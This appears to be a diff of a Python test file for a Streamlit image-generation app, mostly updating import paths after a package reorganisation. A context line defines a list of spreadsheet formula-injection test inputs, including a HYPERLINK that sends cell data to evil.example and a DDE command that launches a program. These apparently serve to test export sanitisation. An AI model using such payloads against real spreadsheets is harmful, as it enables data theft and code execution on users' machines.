@@ -14,14 +14,15 @@ from streamlit.runtime.media_file_manager import MediaFileManager
 from streamlit.testing.v1 import AppTest
 
 from app_pages.common import literal
-from core import loading, pnginfo, tables
 from core.app_state import get_manager
 from core.errors import BadInputError, ModelUnavailableError
 from core.formatting import precision_label
-from core.generation import GenerationSettings
-from core.images import decode_image
-from core.jobs import Job, JobState
-from core.registry import MODELS, Family, custom_spec
+from core.models import loading
+from core.models.registry import MODELS, Family, custom_spec
+from core.tasks import pnginfo, tables
+from core.tasks.generation import GenerationSettings
+from core.tasks.images import decode_image
+from core.tasks.jobs import Job, JobState
 
 HOME = str(Path(__file__).resolve().parent.parent / "Home.py")
 HOSTILE_CELLS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "=1+1", "@SUM(A1)", "+cmd|'/c calc'!A0", "-2+3", "\t=1", "\r=1"]
@@ -198,7 +199,7 @@ def test_precision_is_written_one_way(app_env):
 
 def test_home_the_vram_monitor_and_the_hot_dog_page_show_the_precision_in_use(app_env, monkeypatch):
     # As on a CPU with native bf16 and DASH_CPU_BF16 on: the transformers models load in bf16, the rest in fp32.
-    monkeypatch.setattr("core.manager.pick_dtype", lambda device, family=None, cpu_bf16=False: torch.bfloat16 if family is Family.TRANSFORMERS else torch.float32)
+    monkeypatch.setattr("core.models.manager.pick_dtype", lambda device, family=None, cpu_bf16=False: torch.bfloat16 if family is Family.TRANSFORMERS else torch.float32)
     hotdog = open_page("app_pages/hotdog.py")
     hotdog.radio(key="hotdog:source").set_value("Samples").run()
     assert any("on cpu (bf16), one batched call" in caption for caption in markdown_sources(hotdog))
